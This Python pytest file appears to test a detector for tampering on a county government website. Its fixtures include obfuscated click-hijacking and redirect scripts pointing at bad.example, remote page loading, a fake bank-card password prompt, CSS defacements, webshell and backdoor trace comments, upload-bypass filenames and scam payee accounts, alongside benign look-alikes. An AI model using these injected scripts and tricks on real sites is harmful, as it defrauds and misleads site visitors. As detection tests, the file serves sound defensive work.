"""Relatives of what later strangers did: links that are all taken over, sentences of style sheets, payees, traces."""

import pytest

from tests.pages.imitations.judging import shot, violations
from tests.pages.test_relatives import PAGE, assert_not_accused, assert_told, put, script

_TO = "http://t.bad.example/"


def sheet(text: str) -> str:
    """The page with a style sheet."""
    return PAGE.replace("</head>", f"<style>{text}</style></head>")


def escaped(text: str) -> str:
    """A text in the escapes of style sheets."""
    return "".join(f"\\{ord(letter):04X}" if ord(letter) > 127 else letter for letter in text)


def comment(text: str) -> str:
    """The page with a comment at its end."""
    return put(f"<!-- {text} -->")


TAKEN_OVER = {
    "any link, once a day": script(
        "$(document).on('click','a',function(e){var k='_c'+new Date().toDateString();"
        f"if(!localStorage[k]){{localStorage[k]=1;e.preventDefault();location.href='{_TO}'}}}});"
    ),
    "any link, now and then": script(
        f"$(document).on('mousedown','a',function(){{if(Math.random()<.3){{this.href='{_TO}?k='+$(this).text()}}}})"
    ),
    "all links that were chosen": script(f"$('a').click(function(){{window.open('{_TO}')}})"),
    "all links but some": script(f"$('a:not(.x)').on('click',function(){{location='{_TO}'}})"),
    "the first press": script(f"$('body').one('click',function(){{window.open('{_TO}')}})"),
    "the page's own handler": script(f"document.onclick=function(){{window.open('{_TO}')}}"),
    "the body's": script(f"document.body.onclick=function(e){{location.href='{_TO}'}}"),
    "the link around what was pressed": script(
        f"document.addEventListener('click',function(e){{var a=e.target.closest('a');if(a){{a.href='{_TO}'}}}},true)"
    ),
    "a link under the pointer": script(
        f"document.addEventListener('pointerdown',e=>{{if(e.target.tagName==='A'){{e.target.href='{_TO}'}}}})"
    ),
    "one after the other": script(
        "var l=document.getElementsByTagName('a');for(var i=0;i<l.length;i++)"
        f"{{l[i].onclick=function(){{location.href='{_TO}';return false}}}}"
    ),
    "each a listener": script(
        "document.querySelectorAll('a').forEach(function(x)"
        f"{{x.addEventListener('click',function(){{window.open('{_TO}')}})}})"
    ),
    "their host exchanged": script(
        "$(document).on('click','a',function(){this.href=this.href.replace('www.yunshan.gov.cn','www.yunshan.bad.example')})"
    ),
    "a function with a name": script(f"function go(){{window.open('{_TO}')}}document.onclick=go;"),
    "an address with a name": script(f"var u='{_TO}';$(document).on('click','a',function(){{location.href=u}})"),
    "what opens windows": script(f"window.open=function(u){{location.href='{_TO}'}}"),
    "all written anew": script(f"var u='{_TO}';$('a').attr('href',u)"),
    "all written anew from an object": script(f"$('a').attr({{href:'{_TO}'}})"),
    "all of the document": script(f"var l=document.links;for(var i=0;i<l.length;i++)l[i].href='{_TO}'"),
    "each by itself": script(f"$('a').each(function(){{$(this).attr('href','{_TO}')}})"),
    "an Explorer of old": script(f"document.attachEvent('onclick',function(){{window.open('{_TO}')}})"),
    "an address in code": script("$('a').on('click',function(){location.href=atob('aHR0cDovL3QuYmFkLmV4YW1wbGUv')})"),
}
SPELT_OUT = {
    "the text of a pattern": put(
        '<svg width=0 height=0 onload="var b=/l/.source;top[`${b}ocation`]=`//a.bad.example/`"></svg>'
    ),
    "a pattern as a name": put("<img src=x onerror=\"self[/location/.source]='//a.bad.example/'\">"),
    "halves with names": PAGE.replace(
        "<body>", "<body onpageshow=\"var a='loca',b='tion';self[a+b]='//a.bad.example'\">"
    ),
    "a name for a property": put(
        "<details open ontoggle=\"var k='hr'+'ef';location[k]='//a.bad.example/'\"></details>"
    ),
    "halves that are put together": put(
        "<video><source onerror=\"window['loca'.concat('tion')]='//a.bad.example/'\"></video>"
    ),
    "everything under another name": script(
        'var _0a=document,_1b="ref"+"er"+"rer",_2c=["b","ai","du"].join("");if(_0a[_1b].indexOf(_2c)>0)'
        '{top["loc"+"ation"]["hr"+"ef"]=["ht","tps:",unescape("%2F%2F"),"a","-9",".","bad.example"].join("");}'
    ),
    "an object's address": script("var q={n:1,a:'https://a.bad.example/'};location.href=q.a"),
    "the place under another name": script("var L=window.location;L.href='https://a.bad.example/'"),
    "the place taken out": script("const {location:L}=window;L.href='https://a.bad.example/'"),
    "the place given to the window": script("Object.assign(window,{location:'https://a.bad.example/'})"),
    "called by hand": script("location.replace.call(location,'https://a.bad.example/')"),
    "inside of the place": script("with(document)with(location)href='https://a.bad.example/'"),
    "the newer way": script("navigation.navigate('https://a.bad.example/')"),
    "an address that is made": script("location=new URL('//a.bad.example/',location)"),
    "a tag that is made": script(
        "var m=document.createElement('meta');m.httpEquiv='refresh';m.content='0;url=https://a.bad.example/';"
        "document.head.appendChild(m)"
    ),
}
BY_SEVERAL = {
    "a function that is called": script(f"function go(){{location.href='{_TO}'}}go()"),
    "a function that waits a while": script(f"function go(){{location.href='{_TO}'}}setTimeout(go,3000)"),
    "a function that the page calls": script(
        f"var go=function(){{location.href='{_TO}'}};window.addEventListener('load',go)"
    ),
    "a function of an object": script(f"var A={{go:function(){{location.href='{_TO}'}}}};A.go()"),
    "a function that a function calls": script(
        f"function a(){{location.href='{_TO}'}}function b(){{if(screen.width<800)a()}}b()"
    ),
    "a function that the body calls": script(f"function go(){{location.href='{_TO}'}}").replace(
        "<body>", "<body onload=go()>"
    ),
    "a function that a picture calls": put(
        f"<img src=x onerror=go()><script>function go(){{location.href='{_TO}'}}</script>"
    ),
    "an address in an element": put(
        f"<i id=q data-u='{_TO}'></i><script>location.href=document.getElementById('q').dataset.u</script>"
    ),
    "an address in a field": put(
        f"<input type=hidden id=q value='{_TO}'><script>var e=document.getElementById('q');location=e.value</script>"
    ),
    "an address in a link": put(f"<a id=u href='{_TO}'></a><script>location.href=$('#u').attr('href')</script>"),
    "an address in code in an element": put(
        "<i id=q title='aHR0cDovL3QuYmFkLmV4YW1wbGUv'></i>"
        "<script>location.href=atob(document.getElementById('q').title)</script>"
    ),
    "an address with letters between": script(
        "var s='hAtAtApAsA:A/A/Aa.bad.example/';location.href=s.split('A').join('')"
    ),
    "a form that is sent": put(f"<form id=f action='{_TO}'></form><script>document.forms.f.submit()</script>"),
    "another page in the body": script(f"$('body').load('{_TO}')"),
    "another page's text": script(f"fetch('{_TO}').then(r=>r.text()).then(t=>{{document.open();document.write(t)}})"),
    "another page's data": script(f"$.getJSON('{_TO}?callback=?',function(d){{$('body').html(d.h)}})"),
    "a frame beneath the body": script(
        f"document.body.attachShadow({{mode:'open'}}).innerHTML='<iframe src=\"{_TO}\"></iframe>'"
    ),
    "a frame in its place": script(
        f"var f=document.createElement('iframe');f.src='{_TO}';document.body.replaceChildren(f)"
    ),
    "a layer with a frame": put(
        f"<dialog open style='position:fixed;inset:0'><iframe src='{_TO}' width=100% height=100%></iframe></dialog>"
    ),
    "a question for a card": script("prompt('您的登录已过期，请输入银行卡密码')"),
    "a boast that is written": script("document.querySelector('h1').textContent='Hacked by zz'"),
}
PAINTED = {
    "instead of the page": sheet(
        "body>*{display:none!important}"
        f'body:before{{content:"{escaped("本站已被授权，修复漏洞请联系 QQ 3391827450")}";font-size:60px}}'
    ),
    "a house of gambling": sheet('body::before{content:"认准官方〖K8凯发〗注册送88元 网址 k8-19.bad.example"}'),
    "an invisible page": sheet("body{visibility:hidden}html::after{content:'政府无能 百姓遭殃 今日至此'}"),
    "letters of no size": sheet("body{font-size:0}body::after{content:'强拆我家，某某书记下台';font-size:40px}"),
    "letters without colour": sheet("*{color:transparent!important}body:after{content:'此地由某某安全团队测试'}"),
    "everything in it": sheet("body *{display:none}body::before{content:'We are everywhere, fear us'}"),
    "an agent": sheet(f'.x::after{{content:"{escaped("办事找专员微信 wx88123abc")}"}}'),
    "under a name": sheet(':root{--t:"更多精彩请访问 a.bad.example"}h1::after{content:var(--t)}'),
    "from an attribute": sheet("h1::after{content:attr(data-zz)}").replace("<h1>", "<h1 data-zz=百家乐开户>"),
    "in two pieces": sheet('h1::after{content:"百家" "乐开户"}'),
    "before each line": sheet("ul{list-style-type:'更多请加QQ 33918274 '}"),
    "as a counter": sheet("@counter-style q{system:cyclic;symbols:'请访问 a.bad.example'}ul{list-style:q}"),
    "a picture instead": sheet("body>*{display:none}html{background:url(https://a.bad.example/1.jpg)}"),
}
TRACES = {
    "a signature with its key": comment(
        "r00t3d by cnSec-K1ller | shell: /_ueditor/upload/1.jsp;.jpg pass=k1 | don't del"
    ),
    "a signature": comment("HaCKeD By Mr.X"),
    "another one": comment("0wn3d by r3d"),
    "a shell": comment("webshell /upload/x.aspx pwd:abc"),
    "a shell of another kind": comment("冰蝎 /js/a.jsp pass"),
    "a back door": comment("后门 /inc/conn.asp 密码 admin123"),
    "a visitor": comment("某某黑客到此一游"),
    "the rights of the server": comment("已提权，内网随便逛"),
    "in a script": script("/* defaced by team-q */"),
    "as the author": PAGE.replace("</head>", "<meta name=author content='Hacked by zz'></head>"),
    "a program that is called like a picture": put("<img src='/upload/1.asp;1.jpg'>"),
    "a name that ends early": put("<a href='/u/a.php%00.jpg'>x</a>"),
}
PAYEES = {
    "a fee to a person": put(
        "<p>报名考务费每人120元，请于6月20日前转账至：户名 王建军，账号 6217 8531 0000 4471 902，开户行 中国银行</p>"
    ),
    "a person who receives": put(
        "<p>城镇垃圾处理费收款人：刘小军（个人），卡号：6228480462718830917，开户行：农行</p>"
    ),
    "in a table": put(
        "<table><tr><td>培训费缴纳账户</td></tr><tr><td>户名</td><td>赵德才</td></tr>"
        "<tr><td>账号</td><td>6217853100004471902</td></tr></table>"
    ),
    "line by line": put("<div>水费请汇至<br>户名：孙小红<br>账号：6228480462718830917<br>开户行：农行</div>"),
    "by telephone": put("<p>报名费58元请转账至支付宝：13800001111@163.example 户名：李大伟</p>"),
    "an agent who wants money first": put(
        "<div>政府专员一对一<br>办理低保·退养老金·网贷退费<br>加微信：<b>wx_tf88617</b><br>先交认证金500元，当天下款</div>"
    ),
    "an agent who knows somebody": put("<div><p>内部渠道 公务员岗位包过</p><p>加QQ <span>33918277</span></p></div>"),
    "an agent for pensions": put("<div>养老金补缴代办 先缴后领<br>添加微信 yl8899x</div>"),
}
TOLD = {**TAKEN_OVER, **SPELT_OUT, **BY_SEVERAL, **PAINTED, **TRACES, **PAYEES}

_CONFIRM = "confirm('您访问的链接即将离开云山县人民政府网站，是否继续？')"
HONEST = {
    "who leaves is asked": script(
        "$(document).on('click','a',function(e){if(this.host&&this.host.indexOf('yunshan.gov.cn')<0)"
        f"{{e.preventDefault();if({_CONFIRM})window.open(this.href)}}}});"
    ),
    "who leaves is asked by their own page": script(
        "$('a').click(function(){location.href='/leave.html?u='+encodeURIComponent(this.href)})"
    ),
    "presses are counted": script(
        "document.addEventListener('click',function(e){if(e.target.tagName=='A'){navigator.sendBeacon('/tj',e.target.href)}})"
    ),
    "a menu that closes": script("document.onclick=function(){document.getElementById('m').style.display='none'}"),
    "own links with their own host": script(
        "$('a').each(function(){this.href=this.href.replace('http://yunshan.gov.cn','http://www.yunshan.gov.cn')})"
    ),
    "all in a new window": script("$('a').on('click',function(){window.open(this.href);return false})"),
    "handed on to friends": script(
        "$('a.wb').click(function(){window.open('http://service.weibo.com/share/share.php?url='+location.href)})"
    ),
    "a visitor who comes by a searcher is counted": script(
        'var _ref=document.referrer,_p=["/module/","ref.jsp?u="].join("");'
        'if(_ref.indexOf("baidu")>0){new Image().src=_p+encodeURIComponent(_ref);}'
    ),
    "other names for what is known": script("var d=document,w=window,l='title';w.onload=function(){d[l]=d[l]+'_首页'}"),
    "a function that leads home": script("function go(){location.href='/index.html'}setTimeout(go,3000)"),
    "a choice that leads": put(
        f"<select id=s onchange=jump()><option value='{_TO}'>宏达建材</option></select>"
        "<script>function jump(){location.href=document.getElementById('s').value}</script>"
    ),
    "own text in the page": script("fetch('/d.json').then(r=>r.text()).then(t=>{document.body.dataset.n=t})"),
    "a question for a query's password": script("var p=prompt('请输入查询密码')"),
    "a layer that is not shown": put(
        "<div style='position:fixed;inset:0;display:none'><iframe src='/m.html' width=100% height=100%></iframe></div>"
    ),
    "drawn signs": sheet('.i::before{content:"\\e600"}'),
    "a motto at the foot": sheet("footer::before{content:'云山县人民政府 · 为人民服务'}html{filter:grayscale(100%)}"),
    "a telephone held across": sheet(
        "@media (orientation:landscape){body>*{display:none}body::before{content:'请竖屏浏览本网站'}}"
    ),
    "paper": sheet("@media print{body>*{display:none}body::after{content:'本页面不支持打印输出，请到窗口办理'}}"),
    "the source on paper": sheet(
        "@media print{a::after{content:' (' attr(href) ')'}body::after{content:'来自 www.yunshan.gov.cn'}}"
    ),
    "a number of the office": sheet(".tel::after{content:'电话：0795-6126655'}"),
    "who made it": sheet(".f::after{content:'技术支持：www.vendor-soft.example'}"),
    "what has to be filled in": sheet(".req::after{content:'（必填项，请如实填写）'}"),
    "what a thing is for": sheet("[data-tip]:hover::after{content:attr(data-tip)}").replace(
        "<h1>", "<h1 data-tip=云山县人民政府门户网站>"
    ),
    "an account to follow": sheet(".wx::after{content:'扫码关注云山发布微信公众号'}"),
    "a way around a browser": comment("IE6 png hack"),
    "a template": comment("published by webmaster 2024 | template: /index.jsp ver=9.2 | 请勿删除本组件"),
    "a mend": comment("2023-05 修复上传漏洞，清理 webshell"),
    "an owner": comment("This block is maintained and owned by web team"),
    "an entry that was taken out": comment("login.jsp?user=&pass= 已停用"),
    "a town": comment("大马镇栏目 begin"),
    "a session": put("<a href='/a.jsp;jsessionid=AB12'>x</a>"),
    "a fee to the office": put(
        "<p>报名考务费每人120元，请于6月20日前缴至：户名 云山县财政局非税收入专户，账号 0508 0412 0920 0036 118，"
        "开户行 中国工商银行云山支行</p>"
    ),
    "the school's account": put("<p>学费缴至 户名：云山县第一中学 账号：14372101040008866 农业银行</p>"),
    "the waterworks'": put("<p>水费缴至 户名：云山县自来水有限公司 账号：14372101040008866 农业银行</p>"),
    "line by line, an office": put(
        "<div>医保缴费<br>户名：云山县医疗保障局<br>账号：14372101040008866<br>开户行：农行</div>"
    ),
    "money that is paid out": put("<p>补贴发放公示：户名 王建军 账号 6228****0917 金额 500 元，打卡发放</p>"),
    "a warning with its example": put(
        "<p>警惕！凡要求转账至“户名 王建军”等个人账户的都是诈骗，账号 6217853100004471902 已被冻结</p>"
    ),
    "a helper with a telephone": put("<div>帮办代办专员 张丽<br>加微信：bgsdb2026 预约办理<br>电话0795-6126655</div>"),
    "an account that is public": put("<div>扫码加微信公众号 yunshanfabu 领取消费券</div>"),
    "a warning of agents": put("<p>温馨提示：请勿加微信 wx12345 办理网贷，先交钱的都是骗子</p>"),
    "a loan of the office": put("<p>创业担保贷款咨询：0795-6126655，加微信 cydb2026</p>"),
}


@pytest.mark.parametrize("page", TOLD.values(), ids=TOLD)
def test_it_is_told_at_first_sight_and_against_the_baseline(page: str) -> None:
    assert_told(page)


@pytest.mark.parametrize("page", HONEST.values(), ids=HONEST)
def test_an_honest_page_of_the_same_shape_is_not_accused(page: str) -> None:
    assert_not_accused(page)


LED_BY_HAND = {
    "a part of the page": script(
        f"document.addEventListener('click',function(e){{if(e.target.id=='yq'){{window.open('{_TO}')}}}})"
    ),
    "a function that waits for a press": put(
        f"<a onclick=share()>分享</a><script>function share(){{window.open('{_TO}')}}function init(){{}}init()</script>"
    ).replace("<body>", "<body onload=init()>"),
    "an own address in an element": put(
        "<i id=q data-u='/new/'></i><script>location.href=document.getElementById('q').dataset.u</script>"
    ),
}
"""What leads somewhere once it is pressed, or to the site itself: at first sight nothing is wrong with it."""


@pytest.mark.parametrize("page", LED_BY_HAND.values(), ids=LED_BY_HAND)
def test_what_is_meant_by_a_press_is_a_link(page: str) -> None:
    assert violations(page) == []


_KEPT = put(
    "<a href=# onclick=\"this.style.behavior='url(#default#homepage)';this.setHomePage('http://www.yunshan.gov.cn/');\">"
    "设为首页</a><a onclick=\"SetHome(this,'http://www.yunshan.gov.cn/')\">主页</a>"
    "<a onclick=\"window.external.AddFavorite('http://www.yunshan.gov.cn/','云山')\">收藏</a>"
    '<script>function fav(){window.sidebar.addPanel(document.title,"http://www.yunshan.gov.cn/","")}</script>'
)
KEEPS = (
    "setHomePage('http://www.yunshan.gov.cn/",
    "SetHome(this,'http://www.yunshan.gov.cn/",
    "AddFavorite('http://www.yunshan.gov.cn/",
    'addPanel(document.title,"http://www.yunshan.gov.cn/',
)


@pytest.mark.parametrize("call", KEEPS)
def test_what_visitors_keep_is_not_exchanged_for_a_stranger(call: str) -> None:
    base = shot(_KEPT)
    assert violations(_KEPT.replace(call, call.replace("www.yunshan.gov.cn", "www.hao.bad.example")), base)
    assert violations(_KEPT.replace(call, f"{call}index.asp"), base) == []


_ACCOUNT = "<div class=box><h2>土地竞买保证金缴纳账户</h2>{}</div>"
_OURS = "<p>户名：云山县财政局，账号：0508 0412 0920 0022 570，开户行：工商银行云山支行</p>"
CHANGED = {
    "to a trading company": "<p>户名：晋中汇鑫达商贸有限公司，账号：1405 0166 8208 0000 0731，建设银行</p>",
    "to a person": "<p>户名：王建军，账号：1405 0166 8208 0000 0731，开户行：建设银行榆次支行</p>",
    "to a card": "<p>户名：云山县财政局，账号：6217 8531 0000 4471 902，开户行：中行</p>",
    "to a card behind much else": f"<p>{'竞买人应当在规定的时间以前足额缴纳。' * 12}账号：6217 8531 0000 4471 902</p>",
    "in a table": "<table><tr><td>户名</td><td>汇鑫达商贸有限公司</td></tr>"
    "<tr><td>账号</td><td>140501668208000731</td></tr></table>",
}
BANKS = {
    "to another bank": "<p>户名：云山县财政局，账号：0469 0101 0400 11823，开户行：农业银行云山县支行</p>",
    "to another office": "<p>户名：云山县公共资源交易中心，账号：0469 0101 0400 11823（请勿向个人账户转账）</p>",
    "to a company of the county": "<p>户名：云山县城投公司土地收储中心，账号：0469 0101 0400 11823，农业银行</p>",
}


@pytest.mark.parametrize("line", CHANGED.values(), ids=CHANGED)
def test_an_account_that_becomes_somebodys_is_a_violation(line: str) -> None:
    assert violations(put(_ACCOUNT.format(line)), shot(put(_ACCOUNT.format(_OURS))))


@pytest.mark.parametrize("line", BANKS.values(), ids=BANKS)
def test_an_office_may_change_its_bank(line: str) -> None:
    assert violations(put(_ACCOUNT.format(line)), shot(put(_ACCOUNT.format(_OURS)))) == []
